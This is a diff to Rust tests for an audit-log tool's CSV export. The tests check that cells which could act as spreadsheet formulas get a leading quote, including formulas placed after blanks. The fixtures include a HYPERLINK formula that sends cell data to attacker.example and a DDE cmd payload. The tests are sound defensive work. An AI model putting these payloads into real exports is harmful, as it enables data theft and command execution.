@@ -1469,12 +1469,15 @@ const F_USER: &str = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click me\"
 const F_AGENT: &str = "@SUM(1+1)";
 const F_NAME: &str = "+cmd|' /C calc'!A0";
 const F_VALUE: &str = "-2+3";
+/// Formulas after blanks (spaces, a no-break space): spreadsheets skip them and run the rest.
+const F_SPACED_USER: &str = "  =1+1";
+const F_SPACED_AGENT: &str = "\u{a0}@SUM(1+1)";
 
 /// A configmap build/app created (RequestResponse, a body value that is a formula) and updated,
 /// then a secret read (detect's KA031), all by a user whose name is a formula with `HIDDEN`,
 /// with a user agent and status message that carry both; and a request by `-5` (a name a
 /// spreadsheet reads as a number) that completed a second before it was received (a negative
-/// latency).
+/// latency); and a request by a user and with a user agent whose formulas follow blanks.
 fn formula_log() -> String {
     let at = |v: &mut Value, sec: u64| {
         let t = format!("2026-11-21T15:00:{sec:02}.000000Z");
@@ -1521,6 +1524,11 @@ fn formula_log() -> String {
             at(v, 5);
             v["user"]["username"] = json!("-5");
             v["stageTimestamp"] = json!("2026-11-21T15:00:04.000000Z");
+        }),
+        event_with(5, |v| {
+            at(v, 6);
+            v["user"]["username"] = json!(F_SPACED_USER);
+            v["userAgent"] = json!(F_SPACED_AGENT);
         }),
     ]
     .join("\n")
@@ -1669,9 +1677,11 @@ fn terminal_escapes_in_every_output_format_are_escaped_or_shown() {
 }
 
 /// Issue 16, point 14: no CSV cell of any command starts with `=`, `+`, `-`, `@`, a tab or a
-/// carriage return (a spreadsheet would run it as a formula), unless it is a number: those
-/// cells get a leading `'`, as OWASP advises, and numbers (a negative latency, a user named
-/// `-5`) and kaudit's `-` for an absent value stay as they are. Before, every CSV mode wrote them unprefixed.
+/// carriage return (a spreadsheet would run it as a formula), nor has one of the first four as
+/// its first non-blank character (` =1+1`: spreadsheets skip the blanks), unless it is a
+/// number: those cells get a leading `'`, as OWASP advises, and numbers (a negative latency, a
+/// user named `-5`) and kaudit's `-` for an absent value stay as they are. Before, every CSV
+/// mode wrote them unprefixed, and then those after blanks.
 /// ../shared/repro/csv-formula.log is this class of input.
 #[test]
 fn csv_cells_never_start_a_formula() {
@@ -1704,8 +1714,13 @@ fn csv_cells_never_start_a_formula() {
             for rec in rdr.records() {
                 for cell in rec.unwrap_or_else(|e| panic!("{what}: {e}")).iter() {
                     assert!(
-                        !cell.starts_with(['=', '+', '@', '\t', '\r'])
-                            && (!cell.starts_with('-') || number(cell) || cell == "-"),
+                        !cell.starts_with(['\t', '\r']),
+                        "{what}: a cell starts a formula: {cell:?}"
+                    );
+                    let first = cell.trim_start_matches(char::is_whitespace);
+                    assert!(
+                        !first.starts_with(['=', '+', '@'])
+                            && (!first.starts_with('-') || number(first) || first == "-"),
                         "{what}: a cell starts a formula: {cell:?}"
                     );
                     quoted += usize::from(cell.starts_with("'=HYPERLINK("));
@@ -1734,6 +1749,12 @@ fn csv_cells_never_start_a_formula() {
     assert_eq!(secret[col("name")], format!("'{F_NAME}{HIDDEN_SHOWN}"));
     let skewed = rows.iter().find(|r| r[col("user")] == "-5").unwrap();
     assert_eq!(skewed[col("latencyMs")], "-1000.000");
+    let spaced = rows
+        .iter()
+        .find(|r| r[col("user")].contains("=1+1"))
+        .unwrap();
+    assert_eq!(spaced[col("user")], format!("'{F_SPACED_USER}"));
+    assert_eq!(spaced[col("userAgent")], format!("'{F_SPACED_AGENT}"));
     // history: the body's old and new values are JSON text (a string starts with `"`), escaped
     // as JSON output is, so they read back exactly
     let r = go(&["history", "-n", "build", "cm/app", "-o", "csv", &f]).expect_code(0);
